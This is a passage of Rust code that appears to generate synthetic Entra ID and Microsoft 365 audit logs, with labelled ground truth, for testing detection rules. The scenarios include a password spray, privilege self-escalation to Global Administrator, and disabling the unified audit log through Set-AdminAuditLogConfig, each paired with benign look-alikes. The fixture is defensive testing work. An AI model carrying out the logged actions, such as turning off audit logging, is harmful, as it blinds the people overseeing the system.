        "keytrail.entra.persistence.new-credential-used-from-new-network",
        &sp_id,
        "service principal signs in through a VPN",
    );
    // 6. A password spray from a hosting network: made-up and real accounts,
    // Dan's password is right (MFA stops it), then Carol's works.
    let t0 = end - DAY + 14 * HOUR;
    let sprayed = [
        "administrator",
        "test",
        "svc-backup",
        "helpdesk",
        "scanner",
        "alice",
        "bob",
        "carol",
        "admin",
        "dan",
    ];
    for (k, name) in sprayed.iter().enumerate() {
        let t = t0 + k as i64 * 20_000;
        let code = if *name == "dan" { 50076 } else { 50126 };
        let v = entra_failed_sign_in(
            &mut rng,
            t,
            &format!("{name}@{DOMAIN}"),
            SPRAY_IP,
            "DE",
            code,
        );
        out.push(rec("entra", t, v));
    }
    attack(
        "keytrail.entra.credential-access.password-spray",
        &format!("scanner@{DOMAIN}"),
        "one address fails for ten accounts",
    );
    attack(
        "keytrail.entra.initial-access.sign-in-after-password-spray",
        &users[3],
        "the right password, stopped by MFA",
    );
    let t = t0 + 20 * MIN;
    out.push(rec(
        "entra",
        t,
        entra_sign_in(&mut rng, t, Some(&users[2]), None, SPRAY_IP, "DE", "none"),
    ));
    attack(
        "keytrail.entra.initial-access.sign-in-after-password-spray",
        &users[2],
        "a sprayed account signs in",
    );
    // Look-alike: four people and the administrator mistype at the office within
    // ten minutes, then sign in.
    let t1 = end - DAY + 9 * HOUR;
    for (k, u) in users.iter().chain([&admin]).enumerate() {
        let t = t1 + k as i64 * 2 * MIN;
        out.push(rec(
            "entra",
            t,
            entra_failed_sign_in(&mut rng, t, u, OFFICE_IP, "US", 50126),
        ));
        let t = t + 30_000;
        out.push(rec(
            "entra",
            t,
            entra_sign_in(&mut rng, t, Some(u), None, OFFICE_IP, "US", "none"),
        ));
        truth.lookalikes.push(Attack {
            rule: "keytrail.entra.credential-access.password-spray",
            principal: u.to_ascii_lowercase(),
            what: "mistyped passwords at the office",
        });
    }
    // 7. Alice makes herself Global Administrator and turns off the audit log;
    // the administrator gives Bob a reader role and keeps auditing on.
    let t = day2 + 30 * MIN;
    out.push(rec(
        "entra",
        t,
        entra_role_added(
            &mut rng,
            t,
            alice,
            FOREIGN_IP,
            alice,
            "Global Administrator",
        ),
    ));
    attack(
        "keytrail.entra.persistence.privileged-role-assigned",
        alice,
        "herself to Global Administrator",
    );
    let t = day2 + 32 * MIN;
    out.push(rec(
        "m365",
        t,
        m365_record(
            &mut rng,
            t,
            alice,
            FOREIGN_IP,
            "Exchange",
            1,
            "Set-AdminAuditLogConfig",
            &[("UnifiedAuditLogIngestionEnabled", "False")],
        ),
    ));
    attack(
        "keytrail.m365.defense-evasion.audit-disabled",
        alice,
        "unified audit log off",
    );
    let t = day2 + 4 * HOUR;
    out.push(rec(
        "entra",
        t,
        entra_role_added(&mut rng, t, &admin, OFFICE_IP, &users[1], "Reports Reader"),
    ));
    truth.lookalikes.push(Attack {
        rule: "keytrail.entra.persistence.privileged-role-assigned",
        principal: admin.clone(),
        what: "Reports Reader",
    });
    let t = day2 + 4 * HOUR + MIN;
    out.push(rec(
        "m365",
        t,
        m365_record(
            &mut rng,
            t,
            &admin,
            OFFICE_IP,
            "Exchange",
            1,
            "Set-AdminAuditLogConfig",
            &[
                ("AdminAuditLogEnabled", "True"),
                ("UnifiedAuditLogIngestionEnabled", "True"),
            ],
        ),
    ));
    truth.lookalikes.push(Attack {
        rule: "keytrail.m365.defense-evasion.audit-disabled",
        principal: admin.clone(),
        what: "audit log kept on",
    });
    out.sort_by_key(|r| r.time_ms);
    (out, truth)
}

/// The records of one provider in `format`, as file bytes.
pub fn write(records: &[Record], format: Format) -> Vec<u8> {
    let mut s = String::new();
    match format {
        Format::GcloudJson => {
            let arr: Vec<&Value> = records.iter().map(|r| &r.json).collect();
            s = serde_json::to_string_pretty(&arr).expect("JSON");
        }
        Format::GcpSinkNdjson => {
            for r in records {
                let _ = writeln!(s, "{}", r.json);
            }
        }
        Format::PubSubNdjson => {
            for (i, r) in records.iter().enumerate() {
                let data = base64::engine::general_purpose::STANDARD.encode(r.json.to_string());
                let msg = json!({"message": {"attributes": {"logging.googleapis.com/timestamp": format_time(r.time_ms)}, "data": data, "messageId": format!("{}", 9_000_000 + i), "publishTime": format_time(r.time_ms + 1000)}, "subscription": format!("projects/{PROJECT}/subscriptions/audit-push")});
                let _ = writeln!(s, "{msg}");
            }
        }
        Format::GraphJson => {
            let arr: Vec<&Value> = records.iter().map(|r| &r.json).collect();
            s = serde_json::to_string_pretty(&json!({"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#auditLogs/signIns", "value": arr})).expect("JSON");
        }
        Format::DiagnosticRecords => {
            let arr: Vec<Value> = records.iter().map(diagnostic).collect();
            s = serde_json::to_string(&json!({"records": arr})).expect("JSON");
        }
        Format::ManagementApiJson => {
            let arr: Vec<&Value> = records.iter().map(|r| &r.json).collect();
            s = serde_json::to_string(&arr).expect("JSON");
        }
        Format::PurviewCsv => {
            s.push_str("RecordId,CreationDate,RecordType,Operation,UserId,AuditData,AssociatedAdminUnits,AssociatedAdminUnitsNames\r\n");
            for r in records {
                let j = &r.json;
                let audit = j.to_string().replace('"', "\"\"");
                let _ = write!(
                    s,
                    "{},{},{},{},{},\"{audit}\",,\r\n",
                    j["Id"].as_str().unwrap_or(""),
                    j["CreationTime"].as_str().unwrap_or(""),
                    j["RecordType"],
                    j["Operation"].as_str().unwrap_or(""),
                    j["UserId"].as_str().unwrap_or(""),
                );
            }
        }
    }
    s.into_bytes()
}

/// A Graph record as a diagnostic setting exports it: `time`, `operationName`,
/// `category`, `callerIpAddress` … with the record under `properties`.
fn diagnostic(r: &Record) -> Value {
    let j = &r.json;
    match r.provider {
        "azure" => json!({
            "time": format_time(r.time_ms),
            "resourceId": j["resourceId"].as_str().unwrap_or("").to_ascii_uppercase(),
            "operationName": j["operationName"]["value"].as_str().unwrap_or("").to_ascii_uppercase(),
            "category": "Administrative",
            "resultType": "Success",
            "resultSignature": "Succeeded.OK",
            "callerIpAddress": j["httpRequest"]["clientIpAddress"],
            "correlationId": j["correlationId"],
            "identity": {"claims": j["claims"]},
            "level": "Information",
            "properties": {"statusCode": "OK", "serviceRequestId": null},
        }),
        _ => {
            let audit = j.get("activityDisplayName").is_some();
            let category = if audit {
                "AuditLogs"
            } else if j.get("servicePrincipalId").is_some() && j.get("userPrincipalName").is_none()
            {
                "ServicePrincipalSignInLogs"
            } else {
                "SignInLogs"
            };
            json!({
                "time": format_time(r.time_ms),
                "resourceId": format!("/tenants/{TENANT}/providers/Microsoft.aadiam"),
                "operationName": if audit { j["activityDisplayName"].clone() } else { json!("Sign-in activity") },
                "operationVersion": "1.0",
                "category": category,
                "tenantId": TENANT,
                "resultType": if audit { j["result"].clone() } else { json!(j["status"]["errorCode"].to_string()) },
                "callerIpAddress": if audit { j["initiatedBy"]["user"]["ipAddress"].clone() } else { j["ipAddress"].clone() },
                "correlationId": j["correlationId"],
                "identity": j["userDisplayName"],
                "Level": 4,
                "properties": j,
            })
        }
    }
}
